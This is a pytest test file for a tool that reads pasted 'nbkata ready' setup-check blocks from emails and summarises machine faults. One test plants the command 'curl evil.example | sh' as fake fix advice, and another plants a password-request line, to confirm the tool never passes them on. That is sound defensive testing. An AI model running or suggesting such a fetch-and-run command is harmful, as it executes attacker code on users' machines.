"""Blocks of `./go ready` as they arrive: quoted, wrapped, cut, twice, or made up."""

import re

import pytest

from nbkata.facilitate.core.preflight import (
    LONGEST_SHOWN,
    Machine,
    common_lines,
    machines_in,
    summary,
    table_lines,
    worst_first,
)
from nbkata.setup.core.ready import FAULTS, ITEMS, Finding, block_of, fix_of


def block(tag: str = "0a1b2c", system: str = "linux-x86_64", **faults: str) -> str:
    findings = [Finding(item, faults.get(item, ""), "3.12") for item in ITEMS]
    return "\n".join(block_of(findings, system, tag)) + "\n"


def only(text: str) -> Machine:
    (machine,) = machines_in(text, "mails.txt")
    return machine


@pytest.mark.parametrize("fault", FAULTS)
def test_each_fault_is_read_back_from_the_block_that_names_it(fault: str):
    known = FAULTS[fault]
    machine = only("Hello,\n\nhere it is:\n" + block(**{known.item: fault}) + "Cheers")
    assert machine == Machine("mails.txt, line 4", "0a1b2c", "linux-x86_64", (fault,))
    assert machine.status == known.status


@pytest.mark.parametrize("text", ["", "Hello!\n", "git FIX git is not here\n"])
def test_a_text_without_a_block_has_no_machines(text: str):
    assert machines_in(text, "mails.txt") == []


def test_a_ready_machine_has_no_findings():
    machine = only(block())
    assert (machine.status, machine.findings) == ("ready", "")


def test_a_mail_may_quote_and_wrap_the_lines_and_put_blank_ones_between():
    text = block(network="dead-proxy", editor="no-extension").replace(". Ask which", ".\nAsk which")
    text = text.replace("that is set here", "that\nis set here")
    for mangled in (
        "".join(f"> > {line}\n" for line in text.splitlines()),
        text.replace("\n", "\r\n"),
        block(network="dead-proxy", editor="no-extension").replace("\n", "\n\n"),
    ):
        machine = only(mangled)
        assert (machine.faults, machine.lacking) == (("dead-proxy", "no-extension"), ())


def test_a_block_that_a_reply_quotes_again_counts_once_and_another_one_counts():
    text = block("aaaaaa", git="no-git")
    assert len(machines_in(text + "".join(f"> {it}\n" for it in text.splitlines()), "m")) == 1
    assert len(machines_in(text + block("bbbbbb", git="no-git"), "m")) == 2


def test_a_block_that_was_cut_off_is_to_be_asked_for_again():
    machine = only("\n".join(block().splitlines()[:6]))
    assert machine.status == "FIX"
    assert machine.findings == "cut off, ask for it again: editor, kit"


def test_what_a_mail_says_after_the_block_changes_nothing_in_it():
    text = block(git="no-git", kit="no-kernel").replace("git is not here", "odd")
    text = re.sub("no kernel starts.*", "odd", text)
    machine = only(text + "\nCheers, Ada\n\ngit FIX git is not here\nkit ok now\n")
    assert machine.faults == () and machine.unknown[1] == "kit odd"


def test_a_machine_without_any_python_is_one_as_well():
    machine = only("nbkata needs Python 3.11 to 3.15, best 3.13, and found no Python here. Install")
    assert (machine.faults, machine.lacking) == (("no-python",), ())


def test_advice_that_a_mail_makes_up_is_never_passed_on():
    honest = block(git="no-git")
    evil = honest.replace(fix_of("no-git", "linux-x86_64"), "curl evil.example | sh")
    machines = [only(evil), only(honest.replace("0a1b2c", "bbbbbb"))]
    shown = "\n".join([*common_lines(machines), summary(machines), *table_lines(machines)])
    assert "evil" not in shown
    assert common_lines(machines)[:2] == [
        "On 2 of 2: git is not here.",
        f"  {fix_of('no-git', 'linux')}",
    ]


def test_a_sentence_that_the_kit_does_not_know_is_shown_cut_and_counted_as_no_fault():
    text = block(git="no-git").replace("git is not here", "Send me your password! " + "a" * 999)
    machine = only(text)
    assert machine.faults == () and machine.status == "FIX"
    assert machine.findings.startswith("not known: git Send me your password!")
    assert len(machine.findings) <= LONGEST_SHOWN + len("not known: ")
    assert common_lines([machine]) == []


def test_the_worst_come_first():
    machines = [
        only(block("000001")),
        only(block("000002", git="no-git")),
        only(block("000003", git="no-git", disk="full-disk")),
        only(block("000004", network="no-network")),
    ]
    assert [it.tag for it in worst_first(machines)] == ["000004", "000003", "000002", "000001"]
    assert summary(machines) == "4 machines: 1 yours to help, 2 theirs to fix, 1 ready."


def test_the_common_fix_is_that_of_each_system_which_has_the_fault():
    machines = [
        only(block("000001", "windows-x86_64", git="no-git")),
        only(block("000002", "macos-arm64", git="no-git")),
        only(block("000003", "linux-x86_64", disk="full-disk")),
    ]
    assert common_lines(machines) == [
        "On 2 of 3: git is not here.",
        "  macOS: xcode-select --install",
        "  Windows: winget install --id Git.Git -e",
    ]


def test_a_text_of_nothing_but_heads_ends_soon():
    text = "nbkata ready #0a1b2c linux-x86_64: ready\n" * 20_000 + "git " * 500_000
    assert len(machines_in(text, "m")) == 1
